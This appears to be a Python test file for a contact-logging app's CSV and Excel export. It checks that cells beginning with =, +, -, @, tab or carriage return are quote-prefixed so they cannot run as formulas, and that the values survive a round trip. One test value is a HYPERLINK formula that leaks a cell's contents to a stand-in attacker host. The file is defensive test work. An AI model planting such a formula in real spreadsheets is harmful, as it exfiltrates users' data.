"""CSV exports open in spreadsheet programs: no cell may run as a formula, and nothing is lost."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from storage.exchange import read_records, write_csv
from storage.models import Contact, Organisation
from tests.conftest import COORDINATOR, RunningApp
from tests.test_cli import contactbot
from tests.test_slack_http import FORM, submission

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2;"Klicka här")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")  # OWASP, "CSV Injection"
TEXT_FIELDS = ("city", "person", "email", "unit", "summary", "benefit", "followup", "logged_by_name")


def contact_with(organisation: str, **texts: str) -> Contact:
    moment = datetime(2026, 11, 26, 9, 30, tzinfo=UTC)
    return Contact(
        id=1,
        contact_date=date(2026, 11, 20),
        organisation=Organisation(name=organisation, name_key="k", created_at=moment),
        country="FI",
        kind="other",
        youth=False,
        logged_by="UALICE",
        platform="slack",
        created_at=moment,
        updated_at=moment,
        **{"summary": "x", **texts},
    )


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@settings(max_examples=300, deadline=None)
@given(
    organisation=st.text(min_size=1),
    texts=st.fixed_dictionaries({name: st.text(min_size=1) for name in TEXT_FIELDS}),
)
def test_any_text_round_trips_through_the_csv_and_no_cell_starts_a_formula(
    organisation: str, texts: dict[str, str]
) -> None:
    out = io.StringIO()
    write_csv([contact_with(organisation, **texts)], out)
    written = out.getvalue()
    assert not [cell for cell in cells(written) if cell.startswith(DANGEROUS)]
    record = read_records(written)[0]
    assert record["organisation"] == organisation
    assert {name: record[name] for name in TEXT_FIELDS} == texts


@pytest.mark.parametrize(
    "value", [HYPERLINK, "+46 8 123 45", "-minus", "@SUM(A1)", "\tx", "\rx", "'quoted", "''"]
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value: str) -> None:
    out = io.StringIO()
    write_csv([contact_with(value)], out)
    assert "'" + value in cells(out.getvalue())
    assert read_records(out.getvalue())[0]["organisation"] == value


def test_the_workbook_sent_in_chat_shows_a_formula_as_text(app: RunningApp) -> None:
    app.interaction(submission("V1", dict(FORM, org=HYPERLINK, city="@SUM(A1)")))
    app.reply_to("export", user=COORDINATOR, name="coord", response="export")
    upload = next(c for c in app.standin.calls if c.path.startswith("/upload/"))
    sheet = load_workbook(io.BytesIO(upload.raw)).worksheets[0]
    written = {cell.value: cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    for text in (HYPERLINK, "@SUM(A1)"):
        assert written[text].data_type == "s" and written[text].quotePrefix
    assert not [cell for cell in written.values() if cell.data_type == "f"]


def test_contactbot_export_neutralises_formulas_and_import_gives_them_back(
    database_url: str, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    logged = contactbot(
        ["shell"],
        database_url,
        tmp_path,
        stdin='log org==1+2 land=FI ort=@SUM(A1) person="\'Anna" sammanfattning="-2+3 möte"\n',
    )
    assert "Kontakt #1 är sparad" in logged.stdout, logged.stdout + logged.stderr
    before = json.loads(contactbot(["export", "--format", "json"], database_url, tmp_path).stdout)
    assert before["contacts"][0]["organisation"] == "=1+2" and before["contacts"][0]["person"] == "'Anna"
    exported = contactbot(["export", "--format", "csv", "-o", "export.csv"], database_url, tmp_path)
    assert exported.returncode == 0, exported.stderr
    written = (tmp_path / "export.csv").read_text(encoding="utf-8-sig")
    assert {"'=1+2", "'@SUM(A1)", "''Anna", "'-2+3 möte"} <= set(cells(written))
    assert not [cell for cell in cells(written) if cell.startswith(DANGEROUS)]
    other = tmp_path_factory.mktemp("other")
    other_url = f"sqlite:///{other / 'restored.db'}"
    imported = contactbot(["import", str(tmp_path / "export.csv")], other_url, other)
    assert imported.returncode == 0, imported.stderr
    after = json.loads(contactbot(["export", "--format", "json"], other_url, other).stdout)
    assert after == before
